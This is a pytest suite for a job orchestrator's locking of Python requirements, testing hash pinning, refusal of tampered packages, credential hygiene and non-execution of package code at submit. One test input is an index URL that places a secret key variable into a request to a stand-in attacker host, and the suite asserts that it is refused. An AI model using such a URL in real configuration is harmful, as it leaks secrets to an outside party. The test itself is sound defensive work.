"""Requirements locked at submit: the real uv and pip with a package index on loopback."""

from __future__ import annotations

import io
import json
import re
import tarfile
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from io import BytesIO
from pathlib import Path

import pytest

from orchestrator import spec
from orchestrator.core.order import Outcome
from orchestrator.errors import InputError
from orchestrator.freeze import bundle, requirement_file, requirements
from orchestrator.freeze.requirements import NotLocked, lock
from tests.agent.sessions import QUICK, Stay, session
from tests.package_index import Index, package_index, wheel
from tests.specs import GOOD

INSTALLING = replace(QUICK, requirements=True)
TRAIN = """
import json, os
from importlib import metadata
from pathlib import Path
names = json.loads(os.environ["NAMES"])
Path("seen").write_text(json.dumps({name: metadata.version(name) for name in names}))
saved = Path(os.environ["ORCHESTRATOR_CHECKPOINT_DIR"], ".tmp-step-20")
saved.mkdir()
(saved / "weights").write_text("w")
saved.rename(saved.parent / "step-20")
"""


@pytest.fixture
def index(tmp_path: Path) -> Iterator[Index]:
    with package_index(tmp_path / "index") as found:
        yield found


@pytest.fixture
def wanted(tmp_path: Path) -> Path:
    path = tmp_path / "job" / "code" / "requirements.txt"
    path.parent.mkdir(parents=True)
    path.write_text("greeting  # the newest\n")
    return path


def refused(wanted: Path, text: str, variables: Mapping[str, str]) -> str:
    wanted.write_text(text)
    with pytest.raises(NotLocked) as found:
        lock(wanted, variables)
    return str(found.value)


# --- A hop ------------------------------------------------------------------------------------------------


@dataclass
class Job:
    """A job that was bundled and frozen once; `stay` is one more session of it."""

    root: Path
    index: Index
    source: Path
    frozen: spec.Parsed

    def stay(
        self, number: int, *names: str, platform: Mapping[str, str] | None = None, accelerator: str = "cpu"
    ) -> tuple[Stay, str]:
        """A session on a platform that has these packages; returns its outcome."""
        there = self.root / f"platform-{number}"
        there.mkdir()
        for name, version in (platform or {}).items():
            with zipfile.ZipFile(BytesIO(wheel(name, version))) as archive:
                archive.extractall(there)
        job = self.frozen.job
        with session(
            self.root / str(number), "train.py", source=self.source, requirements=job.requirements,
            requirements_lock=job.requirements_lock, accelerator=accelerator,
            env=(("NAMES", json.dumps(names)),),
        ) as stay:  # fmt: skip
            environment = self.index.variables | {"PYTHONPATH": str(there)}
            result = stay.live(INSTALLING, environment=environment)
            return stay, f"{result.outcome}: {result.message}"


def frozen(root: Path, index: Index, *, locked: bool = True) -> Job:
    """The job in `root` as `submit` freezes it."""
    (root / "job" / "code" / "train.py").write_text(TRAIN)
    (root / "job" / "job.yaml").write_text(f"{GOOD}requirements: code/requirements.txt\n")
    parsed = spec.load(root / "job" / "job.yaml")
    if locked:
        text = lock(parsed.requirements["default"], index.variables)
        assert text is not None
        parsed = parsed.locked({"default": text.encode()})
    sha256 = bundle.freeze(parsed.source, root / "bundles", also=parsed.also)
    source = root / "source"
    with tarfile.open(root / "bundles" / f"{sha256}.tar.gz") as archive:
        archive.extractall(source, filter="data")
    return Job(root, index, source, parsed)


def seen(stay: Stay) -> dict[str, str]:
    found = json.loads((stay.root / "work" / "source" / "seen").read_text())
    assert isinstance(found, dict)
    return found


@pytest.mark.usefixtures("wanted")
@pytest.mark.parametrize("locked", [True, pytest.param(False, marks=pytest.mark.soak)])
def test_a_hop_after_a_new_release_installs_the_same_versions(
    tmp_path: Path, index: Index, locked: bool
) -> None:
    """This includes a package that is only a dependency of another. Without a lock the new versions are
    installed."""
    job = frozen(tmp_path, index, locked=locked)
    first, outcome = job.stay(1, "greeting", "words")
    assert outcome.startswith(Outcome.COMPLETED), first.log()
    index.release("words", "2.0")
    index.release("greeting", "2.0", "words>=2")
    second, outcome = job.stay(2, "greeting", "words")
    assert outcome.startswith(Outcome.COMPLETED), second.log()
    assert seen(first) == {"greeting": "1.0", "words": "1.0"}
    assert seen(second) == (seen(first) if locked else {"greeting": "2.0", "words": "2.0"})


@pytest.mark.usefixtures("wanted")
def test_a_package_that_changed_under_its_version_is_refused(tmp_path: Path, index: Index) -> None:
    job = frozen(tmp_path, index)
    index.release("words", "1.0", "evil")
    stay, outcome = job.stay(1)
    assert outcome.startswith("crashed: the requirements failed to install: "), stay.log()
    assert "DO NOT MATCH THE HASHES" in outcome
    assert not (stay.root / "work" / "source" / "seen").exists()


def test_what_the_platform_has_and_the_job_allows_stays(tmp_path: Path, index: Index, wanted: Path) -> None:
    """torch stays, and its own dependencies are not fetched. A version that the job excludes is replaced by
    the lock's."""
    wanted.write_text("greeting>=1\ntorch>=2\nwords\nold>=2\n")
    index.release("cublas", "1.0")
    index.release("torch", "3.0", "cublas")
    index.release("old", "2.0")
    job = frozen(tmp_path, index)
    (tmp_path / "index" / "cublas" / "cublas-1.0-py3-none-any.whl").unlink()
    (tmp_path / "index" / "torch" / "torch-3.0-py3-none-any.whl").unlink()
    index.release("old", "3.0")
    there = {"torch": "2.5+cu1", "words": "0.5", "old": "1.0"}
    stay, outcome = job.stay(1, "greeting", "torch", "words", "old", platform=there)
    assert outcome.startswith(Outcome.COMPLETED), stay.log()
    assert seen(stay) == {"greeting": "1.0", "torch": "2.5+cu1", "words": "0.5", "old": "2.0"}


@pytest.mark.parametrize(
    ("accelerator", "there", "installed"),
    [
        pytest.param(
            "TPUv5e-1",
            {"torch": "2.9+cpu", "torch_xla": "2.9"},
            {"torch": "2.9+cpu", "torch_xla": "2.9"},
            marks=pytest.mark.soak,
        ),
        ("TPUv5e-1", {"torch": "2.11"}, {"torch": "2.9", "torch_xla": "2.9"}),
        ("T4", {"torch": "2.11"}, None),
    ],
)
def test_only_a_tpu_gets_its_back_end_and_its_torch_from_the_lock(
    tmp_path: Path,
    index: Index,
    wanted: Path,
    accelerator: str,
    there: dict[str, str],
    installed: dict[str, str] | None,
) -> None:
    """A platform with the same back end keeps its own torch. A GPU's torch is never replaced."""
    wanted.write_text("torch==2.9\ntorch_xla==2.9\n")
    index.release("torch", "2.9")
    index.release("torch_xla", "2.9", "torch==2.9")
    stay, outcome = frozen(tmp_path, index).stay(
        1, "torch", "torch_xla", platform=there, accelerator=accelerator
    )
    if installed is None:
        assert outcome.startswith("crashed: the requirements failed to install: "), stay.log()
        assert "The user requested (constraint) torch==2.11" in stay.log()
    else:
        assert outcome.startswith(Outcome.COMPLETED), stay.log()
        assert seen(stay) == installed


@pytest.mark.usefixtures("wanted")
def test_a_platform_that_has_all_of_it_asks_no_index(tmp_path: Path, index: Index) -> None:
    job = frozen(tmp_path, index)
    index.address = "http://127.0.0.1:9/simple"
    stay, outcome = job.stay(1, "greeting", platform={"greeting": "0.9", "words": "0.5"})
    assert outcome.startswith(Outcome.COMPLETED), stay.log()
    assert seen(stay) == {"greeting": "0.9"}


# --- The lock ---------------------------------------------------------------------------------------------


def test_the_lock_names_versions_and_hashes_and_no_address(index: Index, wanted: Path) -> None:
    index.release("greeting", "0.9")
    text = lock(wanted, index.variables)
    assert text is not None
    assert "://" not in text
    assert f"greeting==1.0 \\\n    --hash=sha256:{index.sha256('greeting', '1.0')}\n" in text
    assert f"words==1.0 \\\n    --hash=sha256:{index.sha256('words', '1.0')}\n" in text
    assert "requirements.txt comes to" in text


def test_files_that_it_includes_count(index: Index, wanted: Path) -> None:
    index.release("greeting", "2.0")
    (wanted.parent / "more.txt").write_text("words\n-r requirements.txt\n-c limits.txt\n")
    (wanted.parent / "limits.txt").write_text("greeting<2\n")
    text = lock(wanted.parent / "more.txt", index.variables)
    assert text is not None
    assert "greeting==1.0" in text
    (wanted.parent / "limits.txt").write_text("-e .\n")
    assert "limits.txt:1" in refused(wanted.parent / "more.txt", "-c limits.txt\n", index.variables)


def test_an_index_that_the_file_names_is_in_the_lock(index: Index, wanted: Path) -> None:
    """Otherwise no session would find the package. Credentials in its URL stay the name of a variable."""
    wanted.write_text(f"--index-url {index.address}\ngreeting\n")
    text = lock(wanted, index.variables | {"PIP_INDEX_URL": "http://127.0.0.1:9/simple"})
    assert text is not None
    assert f"\n--index-url {index.address}\n" in text


def test_a_login_is_in_no_lock(index: Index, wanted: Path) -> None:
    address = index.address.replace("://", "://reader:t0ken@")
    text = lock(wanted, index.variables | {"PIP_INDEX_URL": address})
    assert text is not None
    assert "t0ken" not in text
    assert "t0ken" not in refused(wanted, f"--index-url {address}\ngreeting\n", index.variables)
    gone = {"PIP_INDEX_URL": "http://reader:t0ken@127.0.0.1:9/simple"}
    said = refused(wanted, "greeting\n", index.variables | gone)
    assert "t0ken" not in said
    assert re.fullmatch(r".*Failed to fetch: the package index: .*refused.*", said), said


def test_a_file_with_hashes_is_its_own_lock(wanted: Path) -> None:
    """It is not resolved again: that could allow more files than its author did."""
    wanted.write_text(f"greeting==1.0 \\\n    --hash=sha256:{'0' * 64}\n")
    assert lock(wanted, {"PIP_INDEX_URL": "http://127.0.0.1:9/simple"}) is None


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("absent\n", "absent was not found"),
        ("greeting<1\n", "No solution found"),
        ("words\n\n-e .\n", "requirements.txt:3: '-e .' is an editable install"),
        ("./vendored\n", "requirements.txt:1: './vendored' is a local path"),
        ("greeting @ file:///opt/greeting\n", "is a path of this machine, which sessions elsewhere"),
        ("greeting-1.0-py3-none-any.whl\n", "is a local path"),
        ("greeting @ https://host/greeting-1.0-py3-none-any.whl\n", "requirements.txt:1 is not a released"),
        ("git+https://host/greeting\n", "requirements.txt:1 is not a released version"),
        ("--find-links wheels\ngreeting\n", "requirements.txt:1 takes packages from a folder"),
        ("-r gone.txt\n", "requirements.txt:1 is not a released version"),
        ("--find-links file:///opt/wheels\ngreeting\n", "requirements.txt:1 takes packages from a folder"),
        ("--index-url https://evil.example/${KAGGLE_KEY}/\ngreeting\n", "refers to a variable"),
    ],
)
def test_what_cannot_be_locked_is_said(index: Index, wanted: Path, text: str, told: str) -> None:
    assert told in refused(wanted, text, index.variables)


def test_a_file_that_is_too_large_is_not_read(index: Index, wanted: Path) -> None:
    wanted.write_text("#" * (requirement_file.BYTES_MAX + 1))
    with pytest.raises(InputError, match="is larger than"):
        lock(wanted, index.variables)


def test_a_file_that_includes_itself_ends(index: Index, wanted: Path) -> None:
    wanted.write_text("-r requirements.txt\n-r ./requirements.txt\ngreeting\n")
    assert "greeting" in (lock(wanted, index.variables) or "")


def test_nothing_of_a_package_runs_at_submit(tmp_path: Path, index: Index, wanted: Path) -> None:
    """A source distribution computes its requirements with a program. That program does not run here."""
    ran = tmp_path / "ran"
    place = index.folder / "trap"
    place.mkdir()
    setup = (
        f"open({str(ran)!r}, 'w')\nimport setuptools\nsetuptools.setup(name='trap', version='1.0')\n".encode()
    )
    with tarfile.open(place / "trap-1.0.tar.gz", "w:gz") as archive:
        info = tarfile.TarInfo("trap-1.0/setup.py")
        info.size = len(setup)
        archive.addfile(info, io.BytesIO(setup))
    (place / "index.html").write_text(
        '<html><body><a href="trap-1.0.tar.gz">trap-1.0.tar.gz</a></body></html>'
    )
    assert "trap" in refused(wanted, "trap\n", index.variables)
    assert not ran.exists()


@pytest.mark.parametrize("place", [".config/pip/pip.conf", ".pip/pip.conf"])
def test_pips_configuration_names_the_index(index: Index, wanted: Path, place: str) -> None:
    path = index.folder / place
    path.parent.mkdir(parents=True)
    path.write_text(f"[global]\nindex-url = {index.address}\n")
    variables = {name: index.variables[name] for name in ("PATH", "HOME", "NO_PROXY")}
    assert "greeting==1.0" in (lock(wanted, variables) or "")


def test_an_index_that_hangs_is_given_up(index: Index, wanted: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(requirements, "SECONDS_MAX", 0.001)
    assert "did not answer" in refused(wanted, "greeting\n", index.variables)
